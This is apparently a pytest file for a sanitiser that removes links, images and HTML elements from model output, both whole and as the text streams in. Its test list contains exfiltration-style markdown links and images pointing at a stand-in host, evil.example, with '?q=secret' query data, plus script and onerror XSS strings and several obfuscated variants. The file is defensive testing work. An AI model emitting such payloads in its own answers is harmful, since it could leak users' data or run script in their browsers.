"""What a program could follow is taken out of a model's text, whole and while it comes."""

from __future__ import annotations

import random
import re

import pytest

from graphrag_tasks.language.support import Held, harmless

ACTIVE = re.compile(r"\]\(|!\[|://|www\.|javascript:|data:image|<img|<a |<script", re.I)

HOSTILE = [
    "See [the guide](http://evil.example/?q=secret).",
    "See [the guide]( http://evil.example/ 'title' ) now.",
    "![logo](https://evil.example/x.png?q=secret) is shown.",
    "[![logo](https://evil.example/x.png)](https://evil.example/) is shown.",
    "See [the guide][1a].\n[1a]: http://evil.example/",
    "![logo][pic]\n\n[pic]: http://evil.example/x.png",
    "Go to http://evil.example/?q=secret, please.",
    "Go to HTTPS://evil.example/a_(b)_c now.",
    "Go to ht\u200btp://evil.example now.",
    "Go to //evil.example/x now.",
    "Go to www.evil.example/x now.",
    "Click javascript:alert(1) here.",
    "Open data:image/png;base64,AAAA here.",
    "<img src=//evil.example/x.png> is shown.",
    "<img\nsrc='http://evil.example/x'\nonerror=alert(1)> is shown.",
    "<a href='http://evil.example'>The guide</a> says so.",
    "<script>alert(1)</script> runs.",
    "An open <img src=x onerror=alert(1)",
    "An autolink <http://evil.example/x> too.",
    "[a\nb](http://evil.example) spans lines.",
    "[a](http://evil.example/(x)(y)) has brackets.",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_links_images_and_elements_go(text: str) -> None:
    shown, changed = harmless(text)
    assert changed
    assert not ACTIVE.search(shown), shown


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("seed", range(5))
def test_nothing_of_them_is_told_while_an_answer_comes(text: str, seed: int) -> None:
    draw = random.Random(seed)
    told: list[str] = []
    held = Held(told.append)
    rest = f"It works. {text} The end."
    while rest:
        size = draw.randint(1, 6)
        held.take(rest[:size])
        rest = rest[size:]
    held.end()
    shown = "".join(told)
    assert not ACTIVE.search(shown), shown
    assert shown.startswith("It works.")


def test_words_are_told_at_once_and_nothing_is_lost() -> None:
    text = "The queue holds 90 jobs [1]. It is emptied [2, 3] each night, if a < b.\nNext [4]: end."
    told: list[str] = []
    held = Held(told.append)
    held.take("The")
    assert told == ["The"]
    for sign in text[3:]:
        held.take(sign)
    held.end()
    assert "".join(told) == text


@pytest.mark.parametrize(
    "text",
    [
        "If a < b and c > d, 3/4 of x is y.",
        "Use table VBBE (index 1), not VBBS; see sy-subrc: 4.",
        "The path is C:/temp/x and /SCMB/TOOL runs at 10:30.",
        "The annotation @UI.lineItem is read at 10:30.",
    ],
)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == (text, False)
